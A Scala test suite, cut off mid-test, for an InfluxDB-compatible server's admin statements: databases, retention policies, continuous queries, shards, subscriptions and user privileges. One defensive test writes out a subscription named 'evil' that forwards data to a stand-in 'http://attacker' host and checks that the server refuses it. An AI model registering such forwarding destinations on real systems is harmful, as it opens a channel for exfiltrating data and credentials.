package graft.influxql

import java.net.{HttpURLConnection, URI, URLEncoder}

import com.fasterxml.jackson.databind.ObjectMapper

import graft.SparkTestBase
import InfluxQLAst._

/** Database / retention-policy / continuous-query lifecycle — the admin
  * statements around the data plane (InfluxDB 1.x flows: create → show
  * lists it → drop → show empty), including the reference client's exact
  * startup sequence (create_database → write → select,
  * Linux/InfluxConnector2.py:107-176).
  */
class InfluxQLAdminSpec extends SparkTestBase {

  private val mapper = new ObjectMapper()
  private def enc(s: String): String = URLEncoder.encode(s, "UTF-8")

  // ---- parsing ------------------------------------------------------------

  test("CREATE/DROP DATABASE parse, including WITH retention clause") {
    assert(InfluxQLParser.parse("CREATE DATABASE plc1") == CreateDatabase("plc1"))
    assert(InfluxQLParser.parse("""CREATE DATABASE "192.168.0.10"""") ==
      CreateDatabase("192.168.0.10"))
    assert(InfluxQLParser.parse(
      "CREATE DATABASE d WITH DURATION 3d REPLICATION 1 SHARD DURATION 1h NAME rp1") ==
      CreateDatabase("d", Some(CreateRetention("rp1", "d", 3 * 86400L, 1, isDefault = true))))
    // WITH but no NAME → the policy lands as the db's autogen default
    assert(InfluxQLParser.parse("CREATE DATABASE d WITH DURATION 1w") ==
      CreateDatabase("d", Some(CreateRetention("autogen", "d", 7 * 86400L, 1, isDefault = true))))
    intercept[InfluxQLParseException](InfluxQLParser.parse("CREATE DATABASE d WITH"))
    assert(InfluxQLParser.parse("DROP DATABASE plc1") == DropDatabase("plc1"))
  }

  test("CQ/retention lifecycle statements parse") {
    assert(InfluxQLParser.parse("SHOW CONTINUOUS QUERIES") == ShowCqs)
    assert(InfluxQLParser.parse("DROP CONTINUOUS QUERY cq1 ON db1") == DropCq("cq1", "db1"))
    assert(InfluxQLParser.parse(
      "ALTER RETENTION POLICY rp1 ON db1 DURATION 2w REPLICATION 2 DEFAULT") ==
      AlterRetention("rp1", "db1", Some(14 * 86400L), Some(2), isDefault = true))
    assert(InfluxQLParser.parse("ALTER RETENTION POLICY rp1 ON db1 DEFAULT") ==
      AlterRetention("rp1", "db1", None, None, isDefault = true))
    intercept[InfluxQLParseException](
      InfluxQLParser.parse("ALTER RETENTION POLICY rp1 ON db1"))
    assert(InfluxQLParser.parse("DROP RETENTION POLICY rp1 ON db1") ==
      DropRetention("rp1", "db1"))
    assert(InfluxQLParser.parse("SHOW RETENTION POLICIES ON db1") ==
      Show("retention_policies", None, on = Some("db1")))
  }

  test("admin statements render back to parseable text (round-trip)") {
    Seq(
      "CREATE DATABASE plc1",
      "CREATE DATABASE d WITH DURATION 259200s REPLICATION 1 NAME rp1",
      "DROP DATABASE plc1",
      "SHOW CONTINUOUS QUERIES",
      "DROP CONTINUOUS QUERY cq1 ON db1",
      "ALTER RETENTION POLICY rp1 ON db1 DURATION 1209600s REPLICATION 2 DEFAULT",
      "DROP RETENTION POLICY rp1 ON db1",
      "SHOW RETENTION POLICIES ON db1",
    ).foreach { q =>
      val st = InfluxQLParser.parse(q)
      assert(InfluxQLParser.parse(InfluxQLRender.render(st)) == st, q)
    }
  }

  // ---- StoreMeta ----------------------------------------------------------

  test("StoreMeta: database/RP/CQ round-trips with InfluxDB's error semantics") {
    val store = java.nio.file.Files.createTempDirectory("graft-meta").toString

    // databases: idempotent create, listed sorted, dropped with their meta
    StoreMeta.createDatabase(store, CreateDatabase("plcB"))
    StoreMeta.createDatabase(store, CreateDatabase("plcA"))
    StoreMeta.createDatabase(store, CreateDatabase("plcA")) // no error
    assert(StoreMeta.listDatabases(store) == Seq("plcA", "plcB"))

    // retention: create → duplicate errors → alter updates only given
    // clauses → default is exclusive per db → drop
    StoreMeta.createRp(store, CreateRetention("keep2w", "plcA", 14 * 86400L, 1, isDefault = false))
    intercept[InfluxQLParseException](
      StoreMeta.createRp(store, CreateRetention("keep2w", "plcA", 86400L, 1, isDefault = false)))
    StoreMeta.alterRp(store, AlterRetention("keep2w", "plcA", Some(28 * 86400L), None, isDefault = true))
    val rp = StoreMeta.listRps(store, Some("plcA")).head
    assert(rp.durationSec == 28 * 86400L && rp.replication == 1 && rp.isDefault)
    StoreMeta.createRp(store, CreateRetention("keep1d", "plcA", 86400L, 2, isDefault = true))
    val rps = StoreMeta.listRps(store, Some("plcA"))
    assert(rps.filter(_.isDefault).map(_.name) == Seq("keep1d")) // exclusivity
    intercept[InfluxQLParseException](
      StoreMeta.alterRp(store, AlterRetention("nope", "plcA", Some(1L), None, isDefault = false)))
    StoreMeta.dropRp(store, "keep1d", "plcA")
    assert(StoreMeta.listRps(store, Some("plcA")).map(_.name) == Seq("keep2w"))
    intercept[InfluxQLParseException](StoreMeta.dropRp(store, "keep1d", "plcA"))

    // CQs: create → duplicate errors → listed with canonical text →
    // re-parse to a plannable AST → drop → not found errors
    val cq = InfluxQLParser.parse(
      "CREATE CONTINUOUS QUERY roll1m ON plcA BEGIN " +
        "SELECT MEAN(value) AS m INTO plcA_1m FROM plcA GROUP BY time(1m) END")
      .asInstanceOf[CreateCq]
    StoreMeta.createCq(store, cq)
    intercept[InfluxQLParseException](StoreMeta.createCq(store, cq))
    assert(StoreMeta.listCqs(store).map(c => (c.db, c.name)) == Seq(("plcA", "roll1m")))
    assert(StoreMeta.scheduledCqs(store) == Seq(cq))
    StoreMeta.dropCq(store, "roll1m", "plcA")
    assert(StoreMeta.listCqs(store).isEmpty)
    intercept[InfluxQLParseException](StoreMeta.dropCq(store, "roll1m", "plcA"))

    // dropping a database takes its RPs and CQs with it
    StoreMeta.createCq(store, cq)
    StoreMeta.dropDatabase(store, "plcA")
    assert(StoreMeta.listDatabases(store) == Seq("plcB"))
    assert(StoreMeta.listRps(store).isEmpty && StoreMeta.listCqs(store).isEmpty)
  }

  // ---- HTTP ---------------------------------------------------------------

  private def postQuery(port: Int, q: String): (Int, String) = {
    val conn = new URI(s"http://127.0.0.1:$port/query").toURL
      .openConnection().asInstanceOf[HttpURLConnection]
    conn.setRequestMethod("POST")
    conn.setDoOutput(true)
    conn.getOutputStream.write(s"q=${enc(q)}".getBytes("UTF-8"))
    val code = conn.getResponseCode
    val is = if (code >= 400) conn.getErrorStream else conn.getInputStream
    val body = if (is == null) "" else new String(is.readAllBytes(), "UTF-8")
    conn.disconnect()
    (code, body)
  }

  private def get(port: Int, path: String): (Int, String) = {
    val conn = new URI(s"http://127.0.0.1:$port$path").toURL
      .openConnection().asInstanceOf[HttpURLConnection]
    conn.setRequestMethod("GET")
    val code = conn.getResponseCode
    val is = if (code >= 400) conn.getErrorStream else conn.getInputStream
    val body = if (is == null) "" else new String(is.readAllBytes(), "UTF-8")
    conn.disconnect()
    (code, body)
  }

  test("the reference client's startup sequence: CREATE DATABASE → /write → SELECT") {
    val store = java.nio.file.Files.createTempDirectory("graft-http-db").toFile
    val h = InfluxQLHttp.startStore(spark, store.toString)
    try {
      // InfluxDBClient.create_database(plc_ip) → POST /query (idempotent:
      // the daemon re-runs it on every restart)
      val (c1, b1) = postQuery(h.port, """CREATE DATABASE "192.168.0.10"""")
      assert(c1 == 200 && mapper.readTree(b1).at("/results/0/statement_id").asInt() == 0, b1)
      assert(postQuery(h.port, """CREATE DATABASE "192.168.0.10"""")._1 == 200)

      // the new db shows up (implicit plc namespace first)
      val (_, dbs) = get(h.port, s"/query?q=${enc("SHOW DATABASES")}")
      val names = mapper.readTree(dbs).at("/results/0/series/0/values")
      val listed = (0 until names.size()).map(names.get(_).get(0).asText())
      assert(listed == Seq("plc", "192.168.0.10"), dbs.take(300))

      // write points and read them back — the daemon's steady-state loop
      val wc = new URI(s"http://127.0.0.1:${h.port}/write?db=${enc("192.168.0.10")}").toURL
        .openConnection().asInstanceOf[HttpURLConnection]
      wc.setRequestMethod("POST"); wc.setDoOutput(true)
      wc.getOutputStream.write(
        """192.168.0.10,alias=temp value=21.5 1704067200000000000
          |192.168.0.10,alias=temp value=22.0 1704067260000000000""".stripMargin.getBytes("UTF-8"))
      assert(wc.getResponseCode == 204); wc.disconnect()
      val (c2, b2) = get(h.port,
        s"/query?q=${enc("SELECT COUNT(value) AS n FROM \"192.168.0.10\"")}")
      assert(c2 == 200)
      assert(mapper.readTree(b2).at("/results/0/series/0/values/0/0").asLong() == 2L, b2.take(300))

      // DROP DATABASE removes the db-mapped measurement partition's data
      val (c3, _) = postQuery(h.port, """DROP DATABASE "192.168.0.10"""")
      assert(c3 == 200)
      assert(!new java.io.File(store, "measurement=192.168.0.10").exists())
      val (_, dbs2) = get(h.port, s"/query?q=${enc("SHOW DATABASES")}")
      assert(!dbs2.contains("192.168.0.10"), dbs2.take(300))

      // mutations still refuse GET
      assert(get(h.port, s"/query?q=${enc("CREATE DATABASE nope")}")._1 == 400)
    } finally h.stop()
  }

  test("RP and CQ lifecycle over POST /query: create → show → alter/drop → show") {
    val store = java.nio.file.Files.createTempDirectory("graft-http-lifecycle").toFile
    val h = InfluxQLHttp.startStore(spark, store.toString)
    try {
      assert(postQuery(h.port, "CREATE DATABASE db1")._1 == 200)

      // retention: implicit autogen alone, then the explicit policy joins it
      val (_, rp0) = get(h.port, s"/query?q=${enc("SHOW RETENTION POLICIES ON db1")}")
      assert(mapper.readTree(rp0).at("/results/0/series/0/values/0/0").asText() == "autogen")
      assert(postQuery(h.port,
        "CREATE RETENTION POLICY keep2w ON db1 DURATION 2w REPLICATION 1")._1 == 200)
      val (_, rp1) = get(h.port, s"/query?q=${enc("SHOW RETENTION POLICIES ON db1")}")
      val rows1 = mapper.readTree(rp1).at("/results/0/series/0/values")
      assert((0 until rows1.size()).map(rows1.get(_).get(0).asText()).toSet ==
        Set("autogen", "keep2w"), rp1.take(300))
      // ALTER to default: autogen row yields its default flag
      assert(postQuery(h.port,
        "ALTER RETENTION POLICY keep2w ON db1 DURATION 4w DEFAULT")._1 == 200)
      val (_, rp2) = get(h.port, s"/query?q=${enc("SHOW RETENTION POLICIES ON db1")}")
      val rows2 = mapper.readTree(rp2).at("/results/0/series/0/values")
      val byName = (0 until rows2.size()).map(i => rows2.get(i).get(0).asText() ->
        (rows2.get(i).get(1).asText(), rows2.get(i).get(3).asBoolean())).toMap
      assert(byName("keep2w") == (s"${28 * 86400}s", true), rp2.take(300))
      assert(postQuery(h.port, "DROP RETENTION POLICY keep2w ON db1")._1 == 200)
      val (_, rp3) = get(h.port, s"/query?q=${enc("SHOW RETENTION POLICIES ON db1")}")
      assert(!rp3.contains("keep2w"), rp3.take(300))
      // per-statement error shape for a missing policy (batch continues)
      val (ce, be) = postQuery(h.port, "DROP RETENTION POLICY nope ON db1")
      assert(ce == 200 && mapper.readTree(be).at("/results/0/error").asText()
        .contains("not found"), be.take(300))

      // CQ: create → SHOW CONTINUOUS QUERIES groups one series per db →
      // drop → db series empties
      assert(postQuery(h.port,
        "CREATE CONTINUOUS QUERY roll1m ON db1 BEGIN " +
          "SELECT MEAN(value) AS m INTO db1_1m FROM db1 GROUP BY time(1m) END")._1 == 200)
      val (_, cq1) = get(h.port, s"/query?q=${enc("SHOW CONTINUOUS QUERIES")}")
      val cqRoot = mapper.readTree(cq1).at("/results/0/series")
      val dbSeries = (0 until cqRoot.size()).map(cqRoot.get(_))
        .find(_.at("/name").asText() == "db1").get
      assert(dbSeries.at("/values/0/0").asText() == "roll1m", cq1.take(400))
      assert(dbSeries.at("/values/0/1").asText().startsWith("CREATE CONTINUOUS QUERY roll1m"),
        cq1.take(400))
      assert(postQuery(h.port, "DROP CONTINUOUS QUERY roll1m ON db1")._1 == 200)
      val (_, cq2) = get(h.port, s"/query?q=${enc("SHOW CONTINUOUS QUERIES")}")
      assert(!cq2.contains("roll1m"), cq2.take(300))
    } finally h.stop()
  }

  test("auth-enabled server: u/p params and Basic auth pass, anything else 401s") {
    val store = java.nio.file.Files.createTempDirectory("graft-http-auth").toFile
    val h = InfluxQLHttp.startStore(spark, store.toString, auth = Some("root" -> "root"))
    try {
      val q = enc("SHOW DATABASES")
      // the reference's client sends u/p on every call
      // (InfluxDBClient('localhost', 8086, 'root', 'root'))
      assert(get(h.port, s"/query?q=$q&u=root&p=root")._1 == 200)
      // missing or wrong credentials: InfluxDB's 401 + error shape,
      // rejected before any parse/plan/store work
      val (c1, b1) = get(h.port, s"/query?q=$q")
      assert(c1 == 401 && b1.contains("authorization failed"), s"$c1 $b1")
      assert(get(h.port, s"/query?q=$q&u=root&p=wrong")._1 == 401)
      // Basic auth (curl/Grafana form)
      val conn = new URI(s"http://127.0.0.1:${h.port}/query?q=$q").toURL
        .openConnection().asInstanceOf[HttpURLConnection]
      conn.setRequestProperty("Authorization", "Basic " +
        java.util.Base64.getEncoder.encodeToString("root:root".getBytes("UTF-8")))
      assert(conn.getResponseCode == 200)
      conn.disconnect()
      // /write is guarded too; /ping stays open (InfluxDB health checks
      // run unauthenticated)
      val wc = new URI(s"http://127.0.0.1:${h.port}/write?db=plc").toURL
        .openConnection().asInstanceOf[HttpURLConnection]
      wc.setRequestMethod("POST"); wc.setDoOutput(true)
      wc.getOutputStream.write("m,alias=a value=1.0 1704067200000000000".getBytes("UTF-8"))
      assert(wc.getResponseCode == 401); wc.disconnect()
      val pc = new URI(s"http://127.0.0.1:${h.port}/ping").toURL
        .openConnection().asInstanceOf[HttpURLConnection]
      assert(pc.getResponseCode == 204); pc.disconnect()
    } finally h.stop()

    // default servers stay permissive and ignore stray u/p — InfluxDB's
    // auth-enabled=false out-of-the-box behavior, which the rest of the
    // suite (and the reference's root/root client against a fresh store)
    // relies on
    val open = InfluxQLHttp.startStore(spark, store.toString)
    try assert(get(open.port, s"/query?q=${enc("SHOW DATABASES")}&u=x&p=y")._1 == 200)
    finally open.stop()
  }

  test("EXPLAIN [ANALYZE] renders the real Spark plan as QUERY PLAN rows") {
    val dir = "/root/testdata/sf0.001"
    assert(InfluxQLParser.parse(
      "EXPLAIN SELECT MEAN(value) FROM events GROUP BY time(1h)") match {
      case Explain(s: Select, false) => s.measurement == "events"
      case _ => false
    })
    // plan text carries the scan + pushdown story a Spark engineer reads
    val plan = InfluxQLPlanner.sql(spark, dir,
      """EXPLAIN SELECT MEAN(value) AS m FROM events
        |WHERE time >= '2024-01-02' AND time < '2024-01-03'
        |GROUP BY time(1h)""".stripMargin)
      .collect().map(_.getString(0)).mkString("\n")
    assert(plan.contains("Scan parquet") && plan.contains("PushedFilters"), plan.take(500))
    assert(plan.contains("HashAggregate"), plan.take(500))
    // ANALYZE executes: the adaptive plan is FINAL
    val analyzed = InfluxQLPlanner.sql(spark, dir,
      "EXPLAIN ANALYZE SELECT COUNT(value) AS n FROM events")
      .collect().map(_.getString(0)).mkString("\n")
    assert(analyzed.contains("isFinalPlan=true"), analyzed.take(300))
    // HTTP shape: one series of QUERY PLAN rows
    val h = InfluxQLHttp.start(spark, dir)
    try {
      val (c, b) = get(h.port,
        s"/query?q=${enc("EXPLAIN SELECT COUNT(value) AS n FROM events")}")
      assert(c == 200)
      val series = mapper.readTree(b).at("/results/0/series/0")
      assert(series.at("/columns/0").asText() == "QUERY PLAN", b.take(300))
      assert(series.at("/values").size() > 3, b.take(300))
    } finally h.stop()
    // round-trip
    Seq("EXPLAIN SELECT COUNT(value) AS n FROM events",
      "EXPLAIN ANALYZE SELECT COUNT(value) AS n FROM events").foreach { q =>
      val st = InfluxQLParser.parse(q)
      assert(InfluxQLParser.parse(InfluxQLRender.render(st)) == st, q)
    }
  }

  test("SHOW SHARDS lists the store's measurement/date partitions as shards") {
    val store = java.nio.file.Files.createTempDirectory("graft-shards").toString
    import spark.implicits._
    graft.sinks.PointStore.writePartitioned(
      Seq((java.sql.Timestamp.valueOf("2024-01-01 10:00:00"), "plc1", "a", 1.0),
        (java.sql.Timestamp.valueOf("2024-01-02 10:00:00"), "plc1", "a", 2.0),
        (java.sql.Timestamp.valueOf("2024-01-01 10:00:00"), "plc2", "b", 3.0))
        .toDF("ts", "measurement", "alias", "value"),
      store)
    val rows = InfluxQLPlanner.sqlStore(spark, store, "SHOW SHARDS")
      .collect().map(r => (r.getString(1), r.getString(3), r.getString(4), r.getString(6)))
    assert(rows.toSeq == Seq(
      ("plc1", "2024-01-01", "2024-01-01T00:00:00Z", ""),
      ("plc1", "2024-01-02", "2024-01-02T00:00:00Z", ""),
      ("plc2", "2024-01-01", "2024-01-01T00:00:00Z", "")), rows.toSeq)
    // a default retention policy gives its measurement-db's shards an expiry
    StoreMeta.createRp(store, CreateRetention("keep2d", "plc1", 2 * 86400L, 1, isDefault = true))
    val withRp = InfluxQLPlanner.sqlStore(spark, store, "SHOW SHARDS")
      .collect().map(r => (r.getString(1), r.getString(2), r.getString(6)))
    assert(withRp.toSeq == Seq(
      ("plc1", "keep2d", "2024-01-04T00:00:00Z"),
      ("plc1", "keep2d", "2024-01-05T00:00:00Z"),
      ("plc2", "autogen", "")), withRp.toSeq)
    // HTTP: one series per database; DROP SHARD removes exactly the one
    // partition its id names (and an emptied measurement's dir with it)
    val h = InfluxQLHttp.startStore(spark, store)
    try {
      val (c, b) = get(h.port, s"/query?q=${enc("SHOW SHARDS")}")
      assert(c == 200)
      val series = mapper.readTree(b).at("/results/0/series")
      assert(series.size() == 2 &&
        series.get(0).at("/name").asText() == "plc1" &&
        series.get(1).at("/name").asText() == "plc2", b.take(400))
      val plc2Id = series.get(1).at("/values/0/0").asLong()
      val (cd, bd) = postQuery(h.port, s"DROP SHARD $plc2Id")
      assert(cd == 200, bd.take(200))
      assert(!new java.io.File(store, "measurement=plc2").exists())
      val (_, after) = get(h.port, s"/query?q=${enc("SHOW SHARDS")}")
      assert(!after.contains("plc2"), after.take(300))
      // SHARD GROUPS: same layout rows, grouped per db, no per-shard cols
      val (cg, bg) = get(h.port, s"/query?q=${enc("SHOW SHARD GROUPS")}")
      assert(cg == 200 && mapper.readTree(bg).at("/results/0/series/0/columns/2").asText() == "retention_policy", bg.take(300))
      // unknown id: per-statement error, batch shape intact
      val (ce, be) = postQuery(h.port, "DROP SHARD 999999999")
      assert(ce == 200 && be.contains("not found"), be.take(200))
    } finally h.stop()
    // flat (non-partitioned) data dirs list no shards
    assert(InfluxQLPlanner.sql(spark, "/root/testdata/sf0.001", "SHOW SHARDS").count() == 0)
  }

  test("SHOW MEASUREMENTS WITH MEASUREMENT filters the listing (Grafana template shape)") {
    val dir = "/root/testdata/sf0.001"
    assert(InfluxQLParser.parse("SHOW MEASUREMENTS WITH MEASUREMENT =~ /^ev/ LIMIT 5") ==
      Show("measurements", Some("re:^ev"), Some(5), None))
    assert(InfluxQLPlanner.sql(spark, dir, "SHOW MEASUREMENTS WITH MEASUREMENT =~ /^ev/")
      .collect().map(_.getString(0)).toSeq == Seq("events"))
    // = name quotes to an anchored regex; unknown names list EMPTY (the
    // InfluxDB filter behavior), they don't error like a SELECT's FROM
    assert(InfluxQLPlanner.sql(spark, dir, "SHOW MEASUREMENTS WITH MEASUREMENT = events")
      .collect().map(_.getString(0)).toSeq == Seq("events"))
    assert(InfluxQLPlanner.sql(spark, dir, "SHOW MEASUREMENTS WITH MEASUREMENT =~ /^nope/")
      .count() == 0)
    // render round-trip (canonicalizes to the equivalent FROM form)
    val st = InfluxQLParser.parse("SHOW MEASUREMENTS WITH MEASUREMENT =~ /^ev/")
    assert(InfluxQLParser.parse(InfluxQLRender.render(st)) == st)
  }

  test("SHOW STATS / SHOW DIAGNOSTICS report store metadata and runtime facts") {
    val store = java.nio.file.Files.createTempDirectory("graft-stats").toString
    import spark.implicits._
    graft.sinks.PointStore.writePartitioned(
      Seq((java.sql.Timestamp.valueOf("2024-01-01 10:00:00"), "plc1", "a", 1.0),
        (java.sql.Timestamp.valueOf("2024-01-02 10:00:00"), "plc1", "a", 2.0))
        .toDF("ts", "measurement", "alias", "value"),
      store)
    val stats = InfluxQLPlanner.sqlStore(spark, store, "SHOW STATS").collect()(0)
    assert(stats.getLong(stats.fieldIndex("measurements")) == 1L)
    assert(stats.getLong(stats.fieldIndex("shards")) == 2L)
    assert(stats.getLong(stats.fieldIndex("bytes")) > 0L)
    val diag = InfluxQLPlanner.sql(spark, store, "SHOW DIAGNOSTICS")
      .collect().map(r => r.getString(1) -> r.getString(2)).toMap
    assert(diag("Version") == "1.7-graft" && diag("Engine").startsWith("Spark "))
    // HTTP shape: named series
    val h = InfluxQLHttp.startStore(spark, store)
    try {
      val (c, b) = get(h.port, s"/query?q=${enc("SHOW STATS; SHOW DIAGNOSTICS")}")
      assert(c == 200)
      assert(mapper.readTree(b).at("/results/0/series/0/name").asText() == "stats", b.take(300))
      assert(mapper.readTree(b).at("/results/1/series/0/name").asText() == "diagnostics", b.take(300))
    } finally h.stop()
  }

  test("subscriptions fan accepted writes out to their destinations") {
    assert(InfluxQLParser.parse(
      """CREATE SUBSCRIPTION sub0 ON plc.autogen DESTINATIONS ALL 'http://h1:9092', 'http://h2:9092'""") ==
      CreateSubscription("sub0", "plc", "autogen", "ALL",
        Seq("http://h1:9092", "http://h2:9092")))
    assert(InfluxQLParser.parse("DROP SUBSCRIPTION sub0 ON plc") ==
      DropSubscription("sub0", "plc", "autogen")) // rp defaults
    assert(InfluxQLParser.parse("SHOW SUBSCRIPTIONS") == ShowSubs)
    Seq("""CREATE SUBSCRIPTION s ON db.rp DESTINATIONS ANY 'http://a', 'http://b'""",
      "DROP SUBSCRIPTION s ON db.rp", "SHOW SUBSCRIPTIONS").foreach { q =>
      val st = InfluxQLParser.parse(q)
      assert(InfluxQLParser.parse(InfluxQLRender.render(st)) == st, q)
    }

    // end-to-end: a second served store IS the subscriber — every write
    // accepted by the primary shows up there (the Kapacitor topology,
    // with another graft node standing in)
    val primary = java.nio.file.Files.createTempDirectory("graft-sub-primary").toFile
    val mirror = java.nio.file.Files.createTempDirectory("graft-sub-mirror").toFile
    val hm = InfluxQLHttp.startStore(spark, mirror.toString)
    val hp = InfluxQLHttp.startStore(spark, primary.toString)
    try {
      assert(postQuery(hp.port,
        s"CREATE SUBSCRIPTION mirror0 ON plc.autogen DESTINATIONS ALL 'http://127.0.0.1:${hm.port}'")._1 == 200)
      val (_, listed) = get(hp.port, s"/query?q=${enc("SHOW SUBSCRIPTIONS")}")
      val s0 = mapper.readTree(listed).at("/results/0/series/0")
      assert(s0.at("/name").asText() == "plc" &&
        s0.at("/values/0/1").asText() == "mirror0" &&
        s0.at("/values/0/3/0").asText() == s"http://127.0.0.1:${hm.port}", listed.take(400))

      val wc = new java.net.URI(s"http://127.0.0.1:${hp.port}/write?db=plc").toURL
        .openConnection().asInstanceOf[java.net.HttpURLConnection]
      wc.setRequestMethod("POST"); wc.setDoOutput(true)
      wc.getOutputStream.write(
        "plcS,alias=t value=3.5 1704067200000000000".getBytes("UTF-8"))
      assert(wc.getResponseCode == 204); wc.disconnect()
      // forwarding is async — poll the mirror for the point
      val deadline = System.currentTimeMillis() + 20000
      var n = 0L
      while (n == 0L && System.currentTimeMillis() < deadline) {
        Thread.sleep(300)
        if (new java.io.File(mirror, "measurement=plcS").isDirectory)
          n = spark.read.parquet(s"${mirror}/measurement=plcS").count()
      }
      assert(n == 1L, s"mirror never received the forwarded write (n=$n)")

      // dropped subscription stops the fan-out
      assert(postQuery(hp.port, "DROP SUBSCRIPTION mirror0 ON plc.autogen")._1 == 200)
      val wc2 = new java.net.URI(s"http://127.0.0.1:${hp.port}/write?db=plc").toURL
        .openConnection().asInstanceOf[java.net.HttpURLConnection]
      wc2.setRequestMethod("POST"); wc2.setDoOutput(true)
      wc2.getOutputStream.write(
        "plcS,alias=t value=4.5 1704067201000000000".getBytes("UTF-8"))
      assert(wc2.getResponseCode == 204); wc2.disconnect()
      Thread.sleep(1500) // grace for any stray forward
      assert(spark.read.parquet(s"${mirror}/measurement=plcS").count() == 1L)
      assert(spark.read.parquet(s"${primary}/measurement=plcS").count() == 2L)
    } finally { hp.stop(); hm.stop() }
  }

  test("subscription fan-out is scoped to the write's db/rp and never forwards credentials") {
    // a raw recording endpoint stands in for the registered destination —
    // capture exactly what the primary forwards
    val recorded = new java.util.concurrent.LinkedBlockingQueue[(String, String)]()
    val recorder = com.sun.net.httpserver.HttpServer.create(
      new java.net.InetSocketAddress(0), 0)
    recorder.createContext("/write", (ex: com.sun.net.httpserver.HttpExchange) => {
      val body = new String(ex.getRequestBody.readAllBytes(), "UTF-8")
      recorded.put((Option(ex.getRequestURI.getRawQuery).getOrElse(""), body))
      ex.sendResponseHeaders(204, -1); ex.close()
    })
    recorder.start()
    val store = java.nio.file.Files.createTempDirectory("graft-sub-scope").toFile
    val h = InfluxQLHttp.startStore(spark, store.toString, auth = Some("root" -> "root"))
    try {
      def write(db: String): Int = {
        val wc = new java.net.URI(
          s"http://127.0.0.1:${h.port}/write?db=$db&u=root&p=root&precision=s").toURL
          .openConnection().asInstanceOf[java.net.HttpURLConnection]
        wc.setRequestMethod("POST"); wc.setDoOutput(true)
        wc.getOutputStream.write(s"$db,alias=a value=1.0 1704067200".getBytes("UTF-8"))
        val c = wc.getResponseCode; wc.disconnect(); c
      }
      def rootQuery(q: String): (Int, String) = {
        val conn = new java.net.URI(s"http://127.0.0.1:${h.port}/query?u=root&p=root").toURL
          .openConnection().asInstanceOf[java.net.HttpURLConnection]
        conn.setRequestMethod("POST"); conn.setDoOutput(true)
        conn.getOutputStream.write(s"q=${enc(q)}".getBytes("UTF-8"))
        val code = conn.getResponseCode
        val is = if (code >= 400) conn.getErrorStream else conn.getInputStream
        val body = if (is == null) "" else new String(is.readAllBytes(), "UTF-8")
        conn.disconnect(); (code, body)
      }
      assert(rootQuery(s"CREATE SUBSCRIPTION scoped ON dbA.autogen DESTINATIONS ALL " +
        s"'http://127.0.0.1:${recorder.getAddress.getPort}'")._1 == 200)
      // subscription admin is ADMIN-only under auth: a write-privileged
      // user must not be able to register a destination (credential /
      // data exfiltration channel)
      assert(rootQuery("CREATE DATABASE dbA; CREATE USER w1 WITH PASSWORD 'pw'")._1 == 200)
      assert(rootQuery("GRANT WRITE ON dbA TO w1")._1 == 200)
      val sub = s"CREATE SUBSCRIPTION evil ON dbA.autogen DESTINATIONS ALL 'http://attacker'"
      val conn = new java.net.URI(s"http://127.0.0.1:${h.port}/query?u=w1&p=pw&db=dbA").toURL
        .openConnection().asInstanceOf[java.net.HttpURLConnection]
      conn.setRequestMethod("POST"); conn.setDoOutput(true)
      conn.getOutputStream.write(s"q=${enc(sub)}".getBytes("UTF-8"))
      assert(conn.getResponseCode == 403); conn.disconnect()

      // a write to ANOTHER db is NOT forwarded…
      assert(write("dbB") == 204)
      // …a write to the subscribed db is, with credentials STRIPPED and
      // scope/precision kept
      assert(write("dbA") == 204)
      val (fq, fbody) = recorded.poll(20, java.util.concurrent.TimeUnit.SECONDS)
      assert(fbody.startsWith("dbA,alias=a"), fbody)
      val fparams = fq.split('&').map(_.split("=", 2)).map(a => a(0) -> a.lift(1).getOrElse("")).toMap
      assert(fparams.get("db").contains("dbA") && fparams.get("rp").contains("autogen") &&
        fparams.get("precision").contains("s"), fq)
      assert(!fparams.contains("u") && !fparams.contains("p"),
        s"credentials must never be forwarded: $fq")
      // the dbB write never arrives (nothing else queued)
      assert(recorded.poll(1500, java.util.concurrent.TimeUnit.MILLISECONDS) == null)
    } finally { h.stop(); recorder.stop(0) }
  }

  test("user admin statements parse and render round-trip") {
    assert(InfluxQLParser.parse("CREATE USER u1 WITH PASSWORD 'pw'") ==
      CreateUser("u1", "pw", admin = false))
    assert(InfluxQLParser.parse(
      "CREATE USER admin WITH PASSWORD 'pw' WITH ALL PRIVILEGES") ==
      CreateUser("admin", "pw", admin = true))
    assert(InfluxQLParser.parse("SET PASSWORD FOR u1 = 'npw'") == SetPassword("u1", "npw"))
    assert(InfluxQLParser.parse("GRANT READ ON db1 TO u1") ==
      Grant("READ", Some("db1"), "u1"))
    assert(InfluxQLParser.parse("GRANT ALL PRIVILEGES TO u1") == Grant("ALL", None, "u1"))
    assert(InfluxQLParser.parse("REVOKE WRITE ON db1 FROM u1") ==
      Revoke("WRITE", Some("db1"), "u1"))
    intercept[InfluxQLParseException](InfluxQLParser.parse("GRANT READ TO u1")) // needs ON db
    assert(InfluxQLParser.parse("SHOW USERS") == ShowUsers)
    assert(InfluxQLParser.parse("SHOW GRANTS FOR u1") == ShowGrants("u1"))
    Seq(
      "CREATE USER u1 WITH PASSWORD 'pw'",
      "CREATE USER admin WITH PASSWORD 'pw' WITH ALL PRIVILEGES",
      "DROP USER u1", "SET PASSWORD FOR u1 = 'npw'",
      "GRANT READ ON db1 TO u1", "GRANT ALL TO u1",
      "REVOKE ALL ON db1 FROM u1", "SHOW USERS", "SHOW GRANTS FOR u1",
    ).foreach { q =>
      val st = InfluxQLParser.parse(q)
      assert(InfluxQLParser.parse(InfluxQLRender.render(st)) == st, q)
    }
  }

  test("user catalog + RBAC over HTTP: catalog users authenticate, privileges gate access") {
    val store = java.nio.file.Files.createTempDirectory("graft-http-rbac").toFile
    val h = InfluxQLHttp.startStore(spark, store.toString, auth = Some("root" -> "root"))
    try {
      def rootQuery(q: String): (Int, String) = {
        val conn = new URI(s"http://127.0.0.1:${h.port}/query?u=root&p=root").toURL
          .openConnection().asInstanceOf[HttpURLConnection]
        conn.setRequestMethod("POST")
        conn.setDoOutput(true)
        conn.getOutputStream.write(s"q=${enc(q)}".getBytes("UTF-8"))
        val code = conn.getResponseCode
        val is = if (code >= 400) conn.getErrorStream else conn.getInputStream
        val body = if (is == null) "" else new String(is.readAllBytes(), "UTF-8")
        conn.disconnect()
        (code, body)
      }
      // root (configured pair) provisions a reader and a writer
      assert(rootQuery("CREATE DATABASE db1")._1 == 200)
      val (cu, bu) = rootQuery(
        "CREATE USER reader WITH PASSWORD 'rpw'; CREATE USER writer WITH PASSWORD 'wpw'")
      assert(cu == 200, bu.take(300))
      assert(rootQuery("GRANT READ ON db1 TO reader")._1 == 200)
